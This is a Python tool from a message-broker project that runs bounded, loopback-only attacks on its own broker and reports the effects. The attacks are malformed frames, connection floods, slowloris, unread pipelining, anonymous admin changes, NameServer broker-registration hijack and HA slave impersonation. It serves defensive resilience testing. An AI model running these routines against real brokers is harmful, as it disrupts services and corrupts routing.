"""What an attacker on the network throws at a broker, bounded in count and time, against
loopback only (docs/security.md): ``python -m mqstore.tools.attack --broker HOST:PORT --pid PID``.

Each attack runs for ``--seconds`` while a control client (a SyncProducer sending to an existing
topic from its own thread) keeps sending; before, during and after it the broker's resident
memory and open file descriptors (the owner and every child process, from /proc) and the control
client's rate are taken. The answer says, per attack, those figures and what the broker answered
the attacker. The attacks:

- ``garbage``: connections sending random bytes, bad lengths, 10,000-deep JSON, a 100 MiB length;
- ``hold``: as many idle connections as it can open (up to ``--hold``);
- ``pipeline``: requests pipelined on one connection whose answers are never read;
- ``slowloris``: connections trickling a frame a byte at a time;
- ``admin``: anonymous topic changes and offset resets and consumer lists, then (``creations``)
  anonymous UPDATE_AND_CREATE_TOPIC of new names;
- ``topics``: sends to new topic names (``count`` of them), on a new connection each time the
  broker caps the one it is on (up to ``connections``);
- ``hijack``: a REGISTER_BROKER for the broker's own name from another address, then an
  UNREGISTER_BROKER of it, at the NameServer (``--namesrv``);
- ``ha``: a connection to the HA port posing as a slave (8-byte offset reports).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from typing import Any

from mqstore.remoting._remoting import FrameReader, RemotingCommand
from mqstore.ha.auth import CHALLENGE_SIZE, is_handshake
from mqstore.protocol import RequestCode

__all__ = ["ATTACKS", "AttackReport", "Control", "TOPIC_CAPS", "Target", "main", "run_attacks"]

CONTROL_TOPIC = "AttackControl"
#: the broker's caps on topic creation, as its refusals name them (the first named is counted)
TOPIC_CAPS = ("auto_create_topic_max_per_connection", "auto_create_topic_max_per_second", "max_topic_count")


def _cap(remark: str | None) -> str:
    """Which topic cap a refusal names ("other" when none)."""
    return next((cap for cap in TOPIC_CAPS if cap in (remark or "")), "other")


def _loopback(host: str) -> str:
    """Only loopback addresses are attacked (a safety bound of the tool)."""
    ip = socket.gethostbyname(host)
    if not ip.startswith("127."):
        raise SystemExit(f"attack: {host} ({ip}) is not a loopback address; this tool attacks loopback only")
    return ip


@dataclass
class Target:
    broker: str  # host:port of the broker's remoting port
    pid: int  # the broker's owner process
    namesrv: str = ""
    ha: str = ""  # host:port of the master's HA port

    def addr(self, which: str = "broker") -> tuple[str, int]:
        host, _, port = getattr(self, which).rpartition(":")
        return _loopback(host), int(port)

    def check(self) -> None:
        """Every address is a loopback one (SystemExit otherwise), before anything is sent."""
        for which in ("broker", "namesrv", "ha"):
            if getattr(self, which):
                self.addr(which)

    def processes(self) -> list[int]:
        pids = [self.pid]
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    with open(f"/proc/{entry}/stat") as fh:
                        if int(fh.read().rsplit(")", 1)[1].split()[1]) == self.pid:
                            pids.append(int(entry))
                except (OSError, ValueError, IndexError):
                    continue
        return pids

    def rss_mb(self) -> float:
        total = 0
        for pid in self.processes():
            try:
                with open(f"/proc/{pid}/status") as fh:
                    for line in fh:
                        if line.startswith("VmRSS:"):
                            total += int(line.split()[1])
            except OSError:
                continue
        return round(total / 1024, 1)

    def fds(self) -> int:
        total = 0
        for pid in self.processes():
            try:
                total += len(os.listdir(f"/proc/{pid}/fd"))
            except OSError:
                continue
        return total

    def alive(self) -> bool:
        try:
            os.kill(self.pid, 0)
        except OSError:
            return False
        return True


class Control:
    """The well-behaved client: SyncProducer sends to CONTROL_TOPIC from a thread of its own."""

    def __init__(self, namesrv: str, credentials: tuple[str, str] | None = None) -> None:
        from mqstore.client import SyncProducer

        self.producer = SyncProducer("PID_ATTACK_CONTROL", namesrv, timeout=5.0, credentials=credentials)
        self.producer.start()
        self.sent = 0
        self.errors: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="attack-control", daemon=True)
        deadline = time.monotonic() + 30
        while True:  # the topic exists and the route is known
            try:
                self.producer.send(CONTROL_TOPIC, b"control")
                break
            except Exception:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.1)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                self.producer.send(CONTROL_TOPIC, b"control")
                self.sent += 1
            except Exception as exc:  # counted, and shown in the report
                self.errors.append(f"{type(exc).__name__}: {exc}"[:200])
                time.sleep(0.05)

    def rate(self, seconds: float) -> float:
        before, t0 = self.sent, time.monotonic()
        time.sleep(seconds)
        return round((self.sent - before) / (time.monotonic() - t0), 1)

    def rate_back(self, floor: float, seconds: float, samples: int) -> float:
        """The rate once it came back: samples of ``seconds`` until one reaches floor, at most
        ``samples`` of them; the best one seen. (One sample right after an attack says little
        on a busy machine: the attack's own processes may still hold the cores.)"""
        best = 0.0
        for _ in range(samples):
            best = max(best, self.rate(seconds))
            if best >= floor:
                break
        return best

    def close(self) -> None:
        self._stop.set()
        self._thread.join(10)
        self.producer.close()


@dataclass
class AttackReport:
    name: str
    rss_mb: dict[str, float] = field(default_factory=dict)  # before, during, after
    fds: dict[str, int] = field(default_factory=dict)
    control_msg_s: dict[str, float] = field(default_factory=dict)
    control_errors: int = 0
    alive: bool = True
    outcome: dict[str, Any] = field(default_factory=dict)  # what the attacker met


def _request(code: int, fields: dict[str, str], body: bytes = b"", opaque: int = 1) -> bytes:
    return RemotingCommand(code, opaque=opaque, ext_fields=fields, body=body).encode()


def _answers(sock: socket.socket, count: int, timeout_s: float = 5.0) -> list[RemotingCommand]:
    frames, out = FrameReader(), []  # type: tuple[FrameReader, list[RemotingCommand]]
    sock.settimeout(timeout_s)
    try:
        while len(out) < count:
            data = sock.recv(65536)
            if not data:
                break
            frames.feed(data)
            while (cmd := frames.next()) is not None:
                out.append(cmd)
    except (OSError, ValueError):
        pass
    return out


@contextmanager
def _conn(addr: tuple[str, int], timeout_s: float = 5.0) -> Iterator[socket.socket]:
    sock = socket.create_connection(addr, timeout=timeout_s)
    try:
        yield sock
    finally:
        sock.close()


# -- the attacks: each runs until `until` (a monotonic time) and returns what it met -----------------

def attack_garbage(t: Target, until: float, rng: random.Random) -> dict[str, Any]:
    kinds = {
        "random": lambda: rng.randbytes(rng.randrange(1, 4096)),
        "bad_length": lambda: struct.pack(">i", rng.choice([-1, 0, 3, 1 << 30])) + rng.randbytes(64),
        "deep_json": lambda: (lambda h: struct.pack(">ii", 4 + len(h), len(h)) + h)(b"[" * 10_000 + b"]" * 10_000),
        "huge": lambda: struct.pack(">ii", 100 * 1024 * 1024, 100) + b"{" * 100,
    }
    sent = closed = 0
    while time.monotonic() < until and sent < 5000:
        kind = rng.choice(sorted(kinds))
        try:
            with _conn(t.addr()) as sock:
                sock.sendall(kinds[kind]())
                sent += 1
                sock.settimeout(1.0)
                if sock.recv(65536) == b"":
                    closed += 1
        except OSError:
            closed += 1
    return {"frames": sent, "closed_by_broker": closed}


def attack_hold(t: Target, until: float, rng: random.Random, *, count: int = 2000) -> dict[str, Any]:
    held: list[socket.socket] = []
    refused = 0
    try:
        while time.monotonic() < until and len(held) + refused < count:
            try:
                held.append(socket.create_connection(t.addr(), timeout=2))
            except OSError:
                refused += 1
        time.sleep(max(0.0, until - time.monotonic()))
        still = 0
        for sock in held:
            sock.setblocking(False)
            try:
                still += sock.recv(1) != b""
            except BlockingIOError:
                still += 1
            except OSError:
                pass
        return {"opened": len(held), "refused": refused, "still_open": still}
    finally:
        for sock in held:
            sock.close()


def attack_pipeline(t: Target, until: float, rng: random.Random) -> dict[str, Any]:
    request = _request(RequestCode.GET_ALL_TOPIC_CONFIG, {})
    chunk = request * 1000
    sent = 0
    stalled = False
    with _conn(t.addr()) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.setblocking(False)
        pending = memoryview(b"")
        while time.monotonic() < until:
            if not pending:
                pending = memoryview(chunk)
            try:
                n = sock.send(pending)
                pending, sent = pending[n:], sent + n
            except BlockingIOError:
                stalled = True
                time.sleep(0.01)
            except OSError:
                break
    return {"requests_sent": sent // len(request), "broker_stopped_reading": stalled}


def attack_slowloris(t: Target, until: float, rng: random.Random, *, count: int = 200) -> dict[str, Any]:
    frame = _request(RequestCode.GET_MAX_OFFSET, {"topic": CONTROL_TOPIC, "queueId": "0"})
    socks: list[socket.socket] = []
    for _ in range(count):
        try:
            socks.append(socket.create_connection(t.addr(), timeout=2))
        except OSError:
            break
    opened = len(socks)
    pos = 0
    closed = 0
    try:
        while time.monotonic() < until and socks and pos < len(frame) - 1:
            alive = []
            for sock in socks:
                try:
                    sock.send(frame[pos:pos + 1])
                    if sock.recv(1, socket.MSG_DONTWAIT) == b"":  # the broker closed it
                        raise ConnectionResetError
                except BlockingIOError:
                    alive.append(sock)
                except OSError:
                    closed += 1
                    sock.close()
                else:
                    alive.append(sock)
            socks, pos = alive, pos + 1
            time.sleep(0.5)
    finally:
        for sock in socks:
            sock.close()
    return {"opened": opened, "closed_by_broker": closed, "bytes_trickled": pos}


def _update_topic(topic: str, perm: int, opaque: int = 1) -> bytes:
    return _request(RequestCode.UPDATE_AND_CREATE_TOPIC, {
        "topic": topic, "defaultTopic": "TBW102", "readQueueNums": "4", "writeQueueNums": "4", "perm": str(perm),
        "topicFilterType": "SINGLE_TAG", "topicSysFlag": "0", "order": "false"}, opaque=opaque)


def attack_admin(t: Target, until: float, rng: random.Random, *, topic: str = CONTROL_TOPIC,
                 creations: int = 0) -> dict[str, Any]:
    """The admin requests a plain client never sends: ``topic`` made read-only (the control
    client's own by default), an offset reset, the consumer list and runtime info; then up to
    ``creations`` new topics by UPDATE_AND_CREATE_TOPIC (answer codes, and the caps refusals name)."""
    asks = {
        "topic_read_only": _update_topic(topic, 4),
        "offset_reset": _request(RequestCode.UPDATE_CONSUMER_OFFSET, {
            "consumerGroup": "CID_ATTACK_VICTIM", "topic": CONTROL_TOPIC, "queueId": "0",
            "commitOffset": str(2**63 - 1)}),
        "consumer_list": _request(RequestCode.GET_CONSUMER_CONNECTION_LIST, {"consumerGroup": "PID_ATTACK_CONTROL"}),
        "runtime_info": _request(RequestCode.GET_BROKER_RUNTIME_INFO, {}),
    }
    codes: dict[str, int] = {}
    for name, frame in asks.items():
        with _conn(t.addr()) as sock:
            sock.sendall(frame)
            got = _answers(sock, 1)
            codes[name] = got[0].code if got else -1
    out: dict[str, Any] = {"answer_codes": codes}
    if creations:
        made: dict[int, int] = {}
        refused_by: dict[str, int] = {}
        with _conn(t.addr()) as sock:
            for i in range(creations):
                if time.monotonic() >= until:
                    break
                sock.sendall(_update_topic(f"AttackAdminTopic{rng.getrandbits(48):x}", 6, opaque=i + 1))
                got = _answers(sock, 1)
                if not got:
                    break
                made[got[0].code] = made.get(got[0].code, 0) + 1
                if got[0].code != 0:
                    refused_by[_cap(got[0].remark)] = refused_by.get(_cap(got[0].remark), 0) + 1
        out.update(creation_codes=made, creations_refused_by=refused_by)
    return out


def attack_topics(t: Target, until: float, rng: random.Random, *, count: int = 500,
                  connections: int = 1) -> dict[str, Any]:
    """Sends to new topic names; when the broker refuses the connection more creations
    (auto_create_topic_max_per_connection), the next of up to ``connections`` connections goes on."""
    codes: dict[int, int] = {}
    refused_by: dict[str, int] = {}
    made = used = 0
    while used < connections and time.monotonic() < until and made < count:
        used += 1
        with _conn(t.addr()) as sock:
            while time.monotonic() < until and made < count:
                topic = f"AttackTopic{rng.getrandbits(48):x}"
                sock.sendall(_request(RequestCode.SEND_MESSAGE, {
                    "producerGroup": "PID_ATTACK", "topic": topic, "defaultTopic": "TBW102",
                    "defaultTopicQueueNums": "4", "queueId": "0", "sysFlag": "0", "bornTimestamp": "0", "flag": "0"},
                    b"x", opaque=made + 1))
                got = _answers(sock, 1)
                if not got:
                    return {"sends": made, "connections": used, "answer_codes": codes, "refused_by": refused_by}
                codes[got[0].code] = codes.get(got[0].code, 0) + 1
                made += 1
                if got[0].code != 0:
                    cap = _cap(got[0].remark)
                    refused_by[cap] = refused_by.get(cap, 0) + 1
                    if cap == "auto_create_topic_max_per_connection":
                        break
    return {"sends": made, "connections": used, "answer_codes": codes, "refused_by": refused_by}


def attack_hijack(t: Target, until: float, rng: random.Random, *, broker_name: str = "broker-a") -> dict[str, Any]:
    if not t.namesrv:
        return {"skipped": "no --namesrv"}
    fields = {"clusterName": "DefaultCluster", "brokerAddr": "127.0.0.1:1", "brokerName": broker_name,
              "brokerId": "0", "haServerAddr": "127.0.0.1:2", "compressed": "false", "bodyCrc32": "0"}
    body = json.dumps({"topicConfigSerializeWrapper": {"topicConfigTable": {CONTROL_TOPIC: {
        "topicName": CONTROL_TOPIC, "readQueueNums": 4, "writeQueueNums": 4, "perm": 6}},
        "dataVersion": {"timestamp": 0, "counter": 0}}, "filterServerList": []}).encode()
    out: dict[str, Any] = {}
    with _conn(t.addr("namesrv")) as sock:
        sock.sendall(_request(RequestCode.REGISTER_BROKER, fields, body))
        got = _answers(sock, 1)
        out["register_code"] = got[0].code if got else -1
        sock.sendall(_request(RequestCode.GET_ROUTEINFO_BY_TOPIC, {"topic": CONTROL_TOPIC}, opaque=2))
        got = _answers(sock, 1)
        route = json.loads(got[0].body or b"{}") if got and got[0].code == 0 else {}
        out["route_addrs"] = sorted(a for b in route.get("brokerDatas", []) for a in b.get("brokerAddrs", {}).values())
        sock.sendall(_request(RequestCode.UNREGISTER_BROKER, {k: fields[k] for k in (
            "clusterName", "brokerAddr", "brokerName", "brokerId")} | {"brokerAddr": t.broker}, opaque=3))
        got = _answers(sock, 1)
        out["unregister_code"] = got[0].code if got else -1
    return out


def attack_ha(t: Target, until: float, rng: random.Random) -> dict[str, Any]:
    if not t.ha:
        return {"skipped": "no --ha"}
    received = 0
    challenged = False
    try:
        with _conn(t.addr("ha")) as sock:
            sock.settimeout(1.0)
            deadline = min(until, time.monotonic() + 5)
            while time.monotonic() < deadline:
                sock.sendall(struct.pack(">q", 1 << 40))  # "I hold everything": a SYNC_MASTER would count it
                try:
                    data = sock.recv(65536)
                except TimeoutError:
                    continue
                if not data:
                    break
                if not challenged and not received and is_handshake(data):  # an mqstore master's challenge
                    challenged = True
                    data = data[CHALLENGE_SIZE:]
                received += len(data)
    except OSError:
        pass
    return {"log_bytes_received": received, "challenged": challenged}


#: "after" an attack, the control client's rate is sampled until it is back within
#: 1/RECOVERED_FRACTION of the rate before, at most RECOVERY_SAMPLES times
RECOVERED_FRACTION = 4
RECOVERY_SAMPLES = 10

ATTACKS: dict[str, Callable[..., dict[str, Any]]] = {
    "garbage": attack_garbage, "hold": attack_hold, "pipeline": attack_pipeline, "slowloris": attack_slowloris,
    "admin": attack_admin, "topics": attack_topics, "hijack": attack_hijack, "ha": attack_ha,
}


def run_attacks(target: Target, names: list[str], *, seconds: float = 5.0, sample_s: float = 1.0, seed: int = 1,
                credentials: tuple[str, str] | None = None, options: dict[str, dict[str, Any]] | None = None,
                ) -> list[AttackReport]:
    """Each named attack in turn, with the control client and the broker's figures around it."""
    target.check()
    rng = random.Random(seed)
    control = Control(target.namesrv, credentials)
    reports = []
    try:
        for name in names:
            report = AttackReport(name)
            errors_before = len(control.errors)
            report.rss_mb["before"], report.fds["before"] = target.rss_mb(), target.fds()
            report.control_msg_s["before"] = control.rate(sample_s)
            outcome: dict[str, Any] = {}
            until = time.monotonic() + seconds
            thread = threading.Thread(target=lambda: outcome.update(
                ATTACKS[name](target, until, rng, **(options or {}).get(name, {}))), daemon=True)
            thread.start()
            time.sleep(min(seconds / 2, 1.0))
            report.control_msg_s["during"] = control.rate(min(sample_s, seconds / 3))
            report.rss_mb["during"], report.fds["during"] = target.rss_mb(), target.fds()
            thread.join(seconds + 60)
            report.outcome = outcome
            time.sleep(0.5)
            # back within a quarter of the rate before, or the best of 10 samples
            report.control_msg_s["after"] = control.rate_back(report.control_msg_s["before"] / RECOVERED_FRACTION,
                                                              sample_s, RECOVERY_SAMPLES)
            report.rss_mb["after"], report.fds["after"] = target.rss_mb(), target.fds()
            report.control_errors = len(control.errors) - errors_before
            report.alive = target.alive()
            reports.append(report)
    finally:
        control.close()
    return reports


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m mqstore.tools.attack", description=__doc__.split("\n\n")[0])
    p.add_argument("--broker", required=True, help="host:port of the broker (loopback only)")
    p.add_argument("--pid", type=int, required=True, help="the broker's owner process")
    p.add_argument("--namesrv", required=True, help="host:port of its NameServer")
    p.add_argument("--ha", default="", help="host:port of the master's HA port")
    p.add_argument("--seconds", type=float, default=5.0, help="how long each attack runs (default 5)")
    p.add_argument("--attack", action="append", choices=sorted(ATTACKS), help="an attack (default: all)")
    p.add_argument("--credentials", default="", help="AK:SK for the control client (a broker with ACL)")
    args = p.parse_args(argv)
    creds = tuple(args.credentials.split(":", 1)) if args.credentials else None
    reports = run_attacks(Target(args.broker, args.pid, args.namesrv, args.ha), args.attack or list(ATTACKS),
                          seconds=args.seconds, credentials=creds)  # type: ignore[arg-type]
    json.dump([asdict(r) for r in reports], sys.stdout, indent=1)
    print()
    return 0 if all(r.alive for r in reports) else 1


if __name__ == "__main__":
    sys.exit(main())
